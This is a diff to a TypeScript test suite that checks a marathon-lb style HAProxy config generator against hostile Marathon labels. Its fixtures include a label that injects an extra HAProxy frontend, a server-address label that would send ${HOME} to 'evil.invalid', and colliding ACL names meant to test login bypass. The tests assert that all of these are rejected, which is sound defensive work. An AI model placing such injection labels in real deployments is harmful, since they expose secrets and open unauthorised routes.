@@ -11,6 +11,12 @@ import { tempDir } from '../support/render';
 import { spawnService, type ServiceProcess } from '../support/serviceProcess';
 
 const SECRET = 'CHAOS-MARATHON-PASSWORD';
+/** crypt(3) hashes of "adminpw" and "guestpw" (openssl passwd -6), as HAPROXY_{n}_AUTH takes them. */
+const ADMIN_HASH = '$6$mlbsaltA$1xQ1ieNmxVic1kCRaNDX3Z6P8DQdtA1EcLw.SiGM4p2fnSm/z8tFW.y4HhLzqbQ8yUumwsZL.rCb7/soBUdI2.';
+const GUEST_HASH = '$6$mlbsaltG$5USQeSxa/ZDbbCwaS9lYhqrAd4IlYifD6MJCZbh2Bw.7ikfHD6cF6Uf8qYD0a1WM63torLbjwfR4dKOwZyKfX1';
+const basic = (user: string, password: string): Record<string, string> => ({
+  authorization: `Basic ${Buffer.from(`${user}:${password}`).toString('base64')}`,
+});
 const TOKEN = 'CHAOS-ADMIN-TOKEN';
 
 interface FullAnswer {
@@ -20,10 +26,15 @@ interface FullAnswer {
 }
 
 /** A GET through HAProxy that keeps every response header, to look for leaked secrets anywhere. */
-function getWithHeaders(port: number, host: string): Promise<FullAnswer> {
+function getWithHeaders(
+  port: number,
+  host: string,
+  urlPath = '/',
+  headers: Record<string, string> = {},
+): Promise<FullAnswer> {
   return new Promise((resolve, reject) => {
     const req = http.get(
-      { host: '127.0.0.1', port, path: '/', headers: { host }, agent: false, timeout: 2000 },
+      { host: '127.0.0.1', port, path: urlPath, headers: { host, ...headers }, agent: false, timeout: 2000 },
       (res) => {
         let body = '';
         res.on('data', (d: Buffer) => (body += d.toString()));
@@ -33,6 +44,20 @@ function getWithHeaders(port: number, host: string): Promise<FullAnswer> {
     req.on('timeout', () => req.destroy(new Error('timeout')));
     req.on('error', reject);
   });
+}
+
+/** A free loopback port from 20000 to 32767 (the ephemeral range starts at 32768 by default). */
+async function freePortBelowEphemeral(): Promise<number> {
+  for (let tries = 0; tries < 200; tries++) {
+    const port = 20000 + Math.floor(Math.random() * 12768);
+    const free = await new Promise<boolean>((resolve) => {
+      const srv = net.createServer();
+      srv.once('error', () => resolve(false));
+      srv.listen(port, '127.0.0.1', () => srv.close(() => resolve(true)));
+    });
+    if (free) return port;
+  }
+  throw new Error('no free loopback port from 20000 to 32767');
 }
 
 function listening(port: number): Promise<boolean> {
@@ -66,16 +91,11 @@ describeWithHaproxy('chaos: hostile labels and Marathon strings cannot leak secr
   beforeAll(async () => {
     dir = tempDir('mlb-chaos-labels-');
     // The simulator's task servers take OS-assigned ports: its apps are created once the ports this
-    // test relies on (one of them must stay unbound) are picked after those servers are up.
+    // test relies on are picked after those servers are up. The one that must stay unbound is below
+    // the kernel's ephemeral range, where no task server created later can be given it.
     sim = await Simulator.start({ serveTasks: true, auth: { basic: `mlb:${SECRET}` } });
-    const [http, https, stats, appid, admin, injected] = (await freeLoopbackPorts(6)) as [
-      number,
-      number,
-      number,
-      number,
-      number,
-      number,
-    ];
+    const [http, https, stats, appid, admin] = (await freeLoopbackPorts(5)) as [number, number, number, number, number];
+    const injected = await freePortBelowEphemeral();
     ports = { http, https, stats, appid, admin, injected };
     const files = prepareDemoFiles(dir, findConfigDir(), ports);
     const group = (labels: Record<string, string>): Record<string, string> => ({
@@ -168,6 +188,40 @@ describeWithHaproxy('chaos: hostile labels and Marathon strings cannot leak secr
           HAPROXY_0_BACKEND_HEAD: `\nfrontend injected\n  bind 127.0.0.1:${ports.injected}\n  mode http\n  http-request return status 200 content-type text/plain string pwned\nbackend {backend}\n  balance {balance}\n  mode {mode}\n`,
         }),
       },
+      {
+        id: '/tmpl-addr',
+        instances: 1,
+        portDefinitions: [{ port: 10410 }],
+        labels: group({
+          HAPROXY_0_VHOST: 'taddr.example.com',
+          HAPROXY_0_BACKEND_SERVER_OPTIONS: '  server {serverName} ${HOME}.evil.invalid:{port}\n',
+        }),
+      },
+      // marathon-lb's ACL names cannot tell these apart: `host_`/`auth_` + vhost and id cleaned
+      // ("admin.acl" + /pair and "admin" + /acl/pair are both admin_acl_pair), `app_` + id cleaned
+      // (/acl/pair and /acl.pair are both _acl_pair).
+      {
+        id: '/pair',
+        instances: 1,
+        portDefinitions: [{ port: 10411 }],
+        labels: group({
+          HAPROXY_0_VHOST: 'admin.acl',
+          HAPROXY_0_PATH: '/admin',
+          HAPROXY_0_AUTH: `adm:admin:${ADMIN_HASH}`,
+        }),
+      },
+      {
+        id: '/acl/pair',
+        instances: 1,
+        portDefinitions: [{ port: 10412 }],
+        labels: group({ HAPROXY_0_VHOST: 'admin', HAPROXY_0_PATH: '/evil', HAPROXY_0_AUTH: `pub:guest:${GUEST_HASH}` }),
+      },
+      {
+        id: '/acl.pair',
+        instances: 1,
+        portDefinitions: [{ port: 10413 }],
+        labels: group({ HAPROXY_0_VHOST: 'dot.example.com' }),
+      },
     ];
     for (const app of apps) await sim.createApp(app);
     service = spawnService(files.flags, {
@@ -227,6 +281,34 @@ describeWithHaproxy('chaos: hostile labels and Marathon strings cannot leak secr
     expect(cfg).not.toContain(`127.0.0.1:${ports.injected}`);
     expect(cfg).not.toMatch(/bind :1\b/);
     expect(cfg).not.toContain('frontend injected');
+  });
+
+  test('a template label cannot send a variable out through a server address', async () => {
+    expect(config()).not.toContain('evil.invalid');
+    expect((await ask('taddr.example.com')).status).toBe(503); // left out
+    expect(service.output()).toMatch(/left out app \/tmpl-addr .*HAProxy fills \$NAME/);
+  });
+
+  test("apps whose ACL names clean alike: one app's users cannot pass the other's login, nor take its X-Marathon-App-Id", async () => {
+    const victim = sim.tasksOf('/pair')[0]!.id;
+    const other = sim.tasksOf('/acl/pair')[0]!.id;
+    const dotted = sim.tasksOf('/acl.pair')[0]!.id;
+    const admin = (headers: Record<string, string>): Promise<FullAnswer> =>
+      getWithHeaders(ports.http, 'admin.acl', '/admin', headers);
+    expect((await admin({})).status).toBe(401);
+    expect((await admin(basic('guest', 'guestpw'))).status).toBe(401); // the other app's user
+    const ok = await admin(basic('admin', 'adminpw'));
+    expect(ok.status).toBe(200);
+    expect(ok.body).toContain(victim);
+    expect((await getWithHeaders(ports.http, 'admin', '/evil', basic('guest', 'guestpw'))).body).toContain(other);
+    for (const [appId, task] of [
+      ['/acl.pair', dotted],
+      ['/acl/pair', other],
+      ['/pair', victim],
+    ] as const) {
+      const byId = await getWithHeaders(ports.appid, 'anything', '/', { 'x-marathon-app-id': appId });
+      expect(byId.body).toContain(task);
+    }
   });
 
   test('routing keeps following Marathon after the hostile apps arrived', async () => {
